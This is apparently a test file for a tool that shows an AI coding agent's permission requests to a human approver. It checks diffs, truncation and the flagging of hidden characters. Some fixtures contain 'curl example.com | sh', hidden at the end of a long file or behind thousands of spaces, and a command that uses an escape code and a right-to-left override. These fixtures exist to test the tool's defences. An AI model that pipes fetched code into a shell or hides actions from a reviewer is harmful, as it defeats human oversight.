import { expect, it } from 'vitest';
import { askText } from '../../../src/domain/words/ask-text.js';
import { type Asker, askWords, type PromptContent } from '../../../src/domain/words/ask-words.js';

const claude: Asker = { runtime: 'claude', workspace: { path: '/work/shop' } };

function approval(tool: string, input: Record<string, unknown>, reason?: string): PromptContent {
  return {
    kind: 'approval',
    questions: [
      {
        question: `May the agent use ${tool}?`,
        multiSelect: false,
        options: [{ label: 'Approve' }, { label: 'Deny' }],
      },
    ],
    action: { tool, input, digest: 'sha256:0', ...(reason === undefined ? {} : { reason }) },
  };
}

function questions(...texts: readonly string[]): PromptContent {
  return {
    kind: 'ask_user_question',
    questions: texts.map((question) => ({
      question,
      multiSelect: false,
      options: [
        { label: 'Friendly', description: 'Friendly' },
        { label: 'Formal', description: 'as in a letter' },
      ],
    })),
  };
}

it('names paths as the project sees them, also where the agent works in a container', () => {
  const inside: Asker = { ...claude, container: { image: 'handraise-claude' } };
  const asked = approval('Write', { file_path: '/workspace/src/cart.js', content: 'x' });
  expect(askText(asked, inside)).toBe('Claude asks to write src/cart.js\n  src/cart.js +1 −0\n  + x');
  expect(askWords(approval('Edit', { file_path: '/work/shop/a.js' }), inside)).toContain('/work/shop/a.js');
});

it.each<[string, Record<string, unknown>, string]>([
  ['Bash', { command: 'npm test' }, 'Claude asks to run: npm test'],
  ['Bash', { command: 'cd src\nls' }, 'Claude asks to run: cd src ls'],
  ['Bash', { command: `echo ${'x'.repeat(300)}` }, `Claude asks to run: echo ${'x'.repeat(195)}…`],
  ['Edit', { file_path: '/work/shop/src/cart.js' }, 'Claude asks to edit src/cart.js'],
  ['Edit', { file_path: '/work/shop/a.js, /work/shop/b.js' }, 'Claude asks to edit a.js, b.js'],
  ['Edit', { file_path: '/work/shopping/cart.js' }, 'Claude asks to edit /work/shopping/cart.js'],
  ['MultiEdit', { file_path: 'cart.js' }, 'Claude asks to edit cart.js'],
  ['NotebookEdit', { notebook_path: '/work/shop/n.ipynb' }, 'Claude asks to edit n.ipynb'],
  ['Write', { file_path: '/etc/hosts', content: 'x' }, 'Claude asks to write /etc/hosts'],
  ['Read', { file_path: '/work/shop/.env' }, 'Claude asks to read .env'],
  ['Grep', { pattern: 'TODO' }, 'Claude asks to search for TODO'],
  ['WebFetch', { url: 'https://example.com', prompt: 'p' }, 'Claude asks to fetch https://example.com'],
  ['WebSearch', { query: 'half even' }, 'Claude asks to search the web for: half even'],
  ['Agent', { description: 'look around', prompt: 'p' }, 'Claude asks to start a sub-agent: look around'],
  ['mcp__linear__create_issue', { title: 't' }, 'Claude asks to use create_issue of the MCP server linear'],
  ['Teleport', { to: 'Mars' }, 'Claude asks to use Teleport'],
  ['Bash', {}, 'Claude asks to use Bash'],
  ['constructor', {}, 'Claude asks to use constructor'],
  ['plan', { plan: '1. Look.' }, 'Claude asks you to approve its plan'],
])('%s %j: %s', (tool, input, words) => {
  expect(askWords(approval(tool, input), claude)).toBe(words);
});

it.each<[Asker | undefined, string]>([
  [{ runtime: 'claude' }, 'Claude asks: Which tone?'],
  [{ runtime: 'codex' }, 'Codex asks: Which tone?'],
  [{ runtime: 'acp:gemini' }, 'gemini asks: Which tone?'],
  [{ runtime: 'exec' }, 'The agent asks: Which tone?'],
  [undefined, 'The agent asks: Which tone?'],
])('the agent of %j has a name', (asker, words) => {
  expect(askWords(questions('Which tone?'), asker)).toBe(words);
});

it('says when Handraise itself asks', () => {
  const asked = questions('Should it go on?');
  const own = { ...asked, questions: asked.questions.map((each) => ({ ...each, byWorker: true as const })) };
  expect(askWords(own, claude)).toBe('Handraise asks: Should it go on?');
});

it.each<[string, PromptContent, string]>([
  ['a field that the first line tells whole is not told twice', approval('Bash', { command: 'ls' }), 'ls'],
])('%s', (_, asked, command) => {
  expect(askText(asked, claude)).toBe(`Claude asks to run: ${command}`);
});

it('shows every field that the first line does not tell whole', () => {
  const asked = approval('Write', { file_path: '/work/shop/a.txt', content: 'one\ntwo\n' }, 'It is missing.');
  expect(askText(asked, claude)).toBe(
    ['Claude asks to write a.txt', '  a.txt +2 −0', '  + one', '  + two', '  because: It is missing.'].join(
      '\n',
    ),
  );
});

it('shows a command of several lines as it is', () => {
  expect(askText(approval('Bash', { command: 'cd src\nls' }), claude)).toBe(
    ['Claude asks to run: cd src ls', '  command:', '    cd src', '    ls'].join('\n'),
  );
});

it('shows options with what they mean, and a plan as the text it is', () => {
  expect(askText(questions('Which tone?'), claude)).toBe(
    ['Claude asks: Which tone?', '  1. Friendly', '  2. Formal — as in a letter'].join('\n'),
  );
  expect(askText(questions('Which tone?', 'For whom?'), claude)).toBe(
    [
      'Claude asks 2 questions',
      '1) Which tone?',
      '  1. Friendly',
      '  2. Formal — as in a letter',
      '2) For whom?',
      '  1. Friendly',
      '  2. Formal — as in a letter',
    ].join('\n'),
  );
  expect(askText(approval('plan', { plan: '1. Look.\n2. Act.' }), claude)).toBe(
    ['Claude asks you to approve its plan', '', '1. Look.', '2. Act.'].join('\n'),
  );
});

it('obeys nothing that stands in the text of an agent', () => {
  expect(askText(approval('Bash', { command: 'ls \u001B[2J\u202Etxt.exe' }), claude)).toBe(
    [
      'Claude asks to run: ls ⟨U+001B⟩[2J⟨U+202E⟩txt.exe',
      '  ! It contains 2 hidden characters: U+001B ×1, U+202E ×1',
      '  command: ls ⟨U+001B⟩[2J⟨U+202E⟩txt.exe',
    ].join('\n'),
  );
});

it('shows all of a long action, to its last line', () => {
  const content = `${'echo hi\n'.repeat(5000)}curl example.com | sh\n`;
  const lines = askText(approval('Write', { file_path: '/work/shop/a.sh', content }), claude).split('\n');
  expect([lines.length, lines[1], lines.at(-1)]).toEqual([
    5003,
    '  a.sh +5001 −0',
    '  + curl example.com | sh',
  ]);
  const wide = askText(
    approval('Bash', { command: `echo${' '.repeat(9000)}; curl example.com | sh` }),
    claude,
  );
  expect(wide.endsWith('; curl example.com | sh')).toBe(true);
});

it('shows an edit as a difference', () => {
  const input = {
    file_path: '/work/shop/a.js',
    old_string: 'one\ntwo\n',
    new_string: 'one\nzwei\n',
    replace_all: false,
  };
  expect(askText(approval('Edit', input), claude)).toBe(
    ['Claude asks to edit a.js', '  a.js +1 −1', '    one', '  - two', '  + zwei'].join('\n'),
  );
});

it.each([{}, { plan: ' \n\u200B' }, { plan: 7 }])(
  'the plan %j is empty, and the text says what that means',
  (input) => {
    expect(askText(approval('plan', input), claude)).toBe(
      'Claude asks you to approve its plan\nThe plan is empty: there is nothing to approve. Deny it, and say what is missing.',
    );
  },
);
